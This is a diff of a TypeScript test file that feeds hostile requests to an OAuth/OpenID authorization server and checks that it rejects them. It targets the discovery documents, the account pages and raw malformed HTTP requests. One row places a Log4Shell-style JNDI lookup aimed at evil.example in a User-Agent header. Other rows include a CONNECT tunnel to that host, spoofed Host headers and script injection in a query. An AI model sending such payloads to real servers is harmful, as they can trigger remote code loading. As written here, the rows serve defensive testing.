@@ -1,5 +1,5 @@
 /** Hostile rows at the public documents, at our own pages and forms, and at the request line itself. */
-import { type Expected, json, type Pairs, page, type Row, SCRIPT, to } from "./hostile.ts";
+import { bare, type Expected, headOf, json, type Pairs, page, type Row, SCRIPT, says, to } from "./hostile.ts";
 import { page405 } from "./hostile-authorize.ts";
 import type { Ground } from "./hostile-ground.ts";
 
@@ -16,59 +16,56 @@ const DOCUMENT: NonNullable<Expected["headers"]> = {
 };
 
 /** RFC 8414, OpenID Connect Discovery, RFC 7517: the same bytes for everybody, whatever is sent along. */
-export function documentRows(): Row[] {
-  return ["/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/jwks"].flatMap(
-    (path): Row[] => {
-      const type = path === "/jwks" ? "application/jwk-set+json; charset=utf-8" : "application/json; charset=utf-8";
-      const right = json(200, null, { ...DOCUMENT, "content-type": type });
-      // Below /.well-known/ programs ask, elsewhere people; capitals make it another path.
-      const absent = (other: string): Expected => {
-        const answer = other.startsWith("/.well-known/") ? json(404, "invalid_request") : NOT_FOUND;
-        return { ...answer, headers: { ...answer.headers, "cross-origin-resource-policy": "same-origin" } };
-      };
-      return [
-        { name: `${path}`, path, expect: right },
-        {
-          name: `${path} by HEAD`,
-          path,
-          method: "HEAD",
-          expect: { status: 200, headers: { ...DOCUMENT, "content-type": type }, body: "" },
-        },
-        { name: `${path} with a query`, path: `${path}?x=${encodeURIComponent(SCRIPT)}&callback=evil`, expect: right },
-        { name: `${path} from a foreign origin`, path, headers: [["Origin", "https://evil.example"]], expect: right },
-        { name: `${path} from the origin null`, path, headers: [["Origin", "null"]], expect: right },
-        { name: `${path} for a caller that wants XML`, path, headers: [["Accept", "application/xml"]], expect: right },
-        {
-          name: `${path} by POST`,
-          path,
-          method: "POST",
-          expect: {
-            ...json(405, "invalid_request"),
-            headers: { allow: "GET, HEAD, OPTIONS", "cross-origin-resource-policy": "same-origin" },
-          },
-        },
-        {
-          name: `${path} by TRACE`,
-          path,
-          method: "TRACE",
-          expect: {
-            ...json(405, "invalid_request"),
-            headers: { allow: "GET, HEAD, OPTIONS", "cross-origin-resource-policy": "same-origin" },
-          },
-        },
-        {
-          name: `${path} with a slash at its end`,
-          path: `${path}/`,
-          expect: absent(`${path}/`),
-        },
-        {
-          name: `${path} in capitals`,
-          path: path.toUpperCase(),
-          expect: absent(path.toUpperCase()),
-        },
-      ];
-    },
+export async function documentRows(g: Ground): Promise<Row[]> {
+  const documents = await Promise.all(
+    ["/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/jwks"].map(
+      async (path) => [path, (await g.journey.client().get(path)).text] as const,
+    ),
   );
+  return documents.flatMap(([path, text]): Row[] => {
+    const type = path === "/jwks" ? "application/jwk-set+json; charset=utf-8" : "application/json; charset=utf-8";
+    const right = says(text, { ...DOCUMENT, "content-type": type });
+    // Below /.well-known/ programs ask, elsewhere people; capitals make it another path.
+    const absent = (other: string): Expected => {
+      const answer = other.startsWith("/.well-known/") ? json(404, "invalid_request") : NOT_FOUND;
+      return { ...answer, headers: { ...answer.headers, "cross-origin-resource-policy": "same-origin" } };
+    };
+    return [
+      { name: `${path}`, path, expect: right },
+      {
+        name: `${path} by HEAD`,
+        path,
+        method: "HEAD",
+        expect: headOf(200, type, DOCUMENT),
+      },
+      { name: `${path} with a query`, path: `${path}?x=${encodeURIComponent(SCRIPT)}&callback=evil`, expect: right },
+      { name: `${path} from a foreign origin`, path, headers: [["Origin", "https://evil.example"]], expect: right },
+      { name: `${path} from the origin null`, path, headers: [["Origin", "null"]], expect: right },
+      { name: `${path} for a caller that wants XML`, path, headers: [["Accept", "application/xml"]], expect: right },
+      {
+        name: `${path} by POST`,
+        path,
+        method: "POST",
+        expect: json(405, "invalid_request", { allow: "GET, HEAD, OPTIONS" }),
+      },
+      {
+        name: `${path} by TRACE`,
+        path,
+        method: "TRACE",
+        expect: json(405, "invalid_request", { allow: "GET, HEAD, OPTIONS" }),
+      },
+      {
+        name: `${path} with a slash at its end`,
+        path: `${path}/`,
+        expect: absent(`${path}/`),
+      },
+      {
+        name: `${path} in capitals`,
+        path: path.toUpperCase(),
+        expect: absent(path.toUpperCase()),
+      },
+    ];
+  });
 }
 
 /** What is switched off is not there at all. */
@@ -109,7 +106,7 @@ export function pageRows(g: Ground): Row[] {
   const rows: Row[] = [
     { name: "the front door", path: "/", expect: to("/account") },
     { name: "the account page", path: "/account", expect: shown },
-    { name: "the account page by HEAD", path: "/account", method: "HEAD", expect: { status: 200, body: "" } },
+    { name: "the account page by HEAD", path: "/account", method: "HEAD", expect: headOf(200) },
     {
       name: "the account page by OPTIONS",
       path: "/account",
@@ -255,8 +252,8 @@ export function pageRows(g: Ground): Row[] {
       expect: FOREIGN,
     },
     { name: "set-up by PUT", path: "/setup", method: "PUT", expect: page405("GET, HEAD, POST") },
-    { name: "health", path: "/health/live", expect: { status: 200, body: '{"status":"live"}' } },
-    { name: "readiness", path: "/health/ready", expect: { status: 200, body: '{"status":"ready"}' } },
+    { name: "health", path: "/health/live", expect: says('{"status":"live"}') },
+    { name: "readiness", path: "/health/ready", expect: says('{"status":"ready"}') },
     { name: "health by POST", path: "/health/live", method: "POST", expect: page405("GET, HEAD") },
     {
       name: "the picture that browsers ask for",
@@ -300,7 +297,18 @@ export function rawRows(g: Ground): Row[] {
   const end = "Connection: close\r\nAccept: text/html\r\n\r\n";
   const raw = (name: string, bytes: string, expect: Expected): Row => ({ name, path: "", raw: bytes, expect });
   const get = (target: string, host = `Host: ${g.host}\r\n`): string => `GET ${target} HTTP/1.1\r\n${host}${end}`;
-  const bad = { status: 400, isBare: true } as const;
+  const bad = bare(400);
+  // Node answers this one by its own response, which has a date and an empty chunk.
+  const chunked = (status: number): Expected => ({
+    status,
+    isBare: true,
+    headers: {
+      connection: "close",
+      date: /^\w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT$/,
+      "transfer-encoding": "chunked",
+    },
+    body: "0\r\n\r\n",
+  });
   const neighbour: Expected = { ...page(421, "host.title"), body: new RegExp(`href="${g.issuer}/account"`) };
   const misdirected: Expected = {
     status: 421,
@@ -338,7 +346,7 @@ export function rawRows(g: Ground): Row[] {
       UNREADABLE,
     ),
     raw("the same Host twice", get("/account", `Host: ${g.host}\r\nhost: ${g.host}\r\n`), UNREADABLE),
-    raw("no Host", get("/account", ""), bad),
+    raw("no Host", get("/account", ""), chunked(400)),
     raw("HTTP/1.0 without Host", `GET /account HTTP/1.0\r\nAccept: text/html\r\n\r\n`, misdirected),
     ...hosts.map((host) =>
       raw(
@@ -352,15 +360,9 @@ export function rawRows(g: Ground): Row[] {
       get("/account", `Host: evil.example\r\nX-Forwarded-Host: ${g.host}\r\nForwarded: host=${g.host}\r\n`),
       misdirected,
     ),
-    raw("20 kB of headers", get("/account", `Host: ${g.host}\r\nX-Long: ${"a".repeat(20_000)}\r\n`), {
-      status: 431,
-      isBare: true,
-    }),
-    raw("2,500 headers", get("/account", `Host: ${g.host}\r\n${"a: b\r\n".repeat(2500)}`), {
-      status: 200,
-      page: "account.nobody",
-    }),
-    raw("an address of 20 kB", get(`/account?${"a".repeat(20_000)}`), { status: 431, isBare: true }),
+    raw("20 kB of headers", get("/account", `Host: ${g.host}\r\nX-Long: ${"a".repeat(20_000)}\r\n`), bare(431)),
+    raw("2,500 headers", get("/account", `Host: ${g.host}\r\n${"a: b\r\n".repeat(2500)}`), page(200, "account.nobody")),
+    raw("an address of 20 kB", get(`/account?${"a".repeat(20_000)}`), bare(431)),
     raw("a header with NUL", get("/account", `Host: ${g.host}\r\nX: a\0b\r\n`), bad),
     raw("a folded header", get("/account", `Host: ${g.host}\r\nX: a\r\n b\r\n`), bad),
     raw("a header without a colon", get("/account", `Host: ${g.host}\r\nnonsense\r\n`), bad),
@@ -393,23 +395,23 @@ export function rawRows(g: Ground): Row[] {
     raw("HTTP/2 without asking", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", bad),
     raw("HTTP/0.9", "GET /account\r\n\r\n", misdirected),
     raw("TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", bad),
-    raw("an expectation that nobody meets", get("/account", `Host: ${g.host}\r\nExpect: everything\r\n`), {
-      status: 417,
+    raw("an expectation that nobody meets", get("/account", `Host: ${g.host}\r\nExpect: everything\r\n`), chunked(417)),
+    raw("a tunnel", `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`, {
+      status: 0,
       isBare: true,
+      headers: {},
+      body: "",
     }),
-    raw("a tunnel", `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`, { status: 0, isBare: true }),
-    raw("another protocol", get("/account", `Host: ${g.host}\r\nUpgrade: websocket\r\n`), {
-      status: 200,
-      page: "account.nobody",
-    }),
+    raw("another protocol", get("/account", `Host: ${g.host}\r\nUpgrade: websocket\r\n`), page(200, "account.nobody")),
     raw(
       "a user agent of commands",
       get("/account", `Host: ${g.host}\r\nUser-Agent: \${jndi:ldap://evil.example/a} \x1b[31m\r\n`),
       bad,
     ),
-    raw("a user agent of 12 kB", get("/account", `Host: ${g.host}\r\nUser-Agent: ${"u".repeat(12_000)}\r\n`), {
-      status: 200,
-      page: "account.nobody",
-    }),
+    raw(
+      "a user agent of 12 kB",
+      get("/account", `Host: ${g.host}\r\nUser-Agent: ${"u".repeat(12_000)}\r\n`),
+      page(200, "account.nobody"),
+    ),
   ];
 }
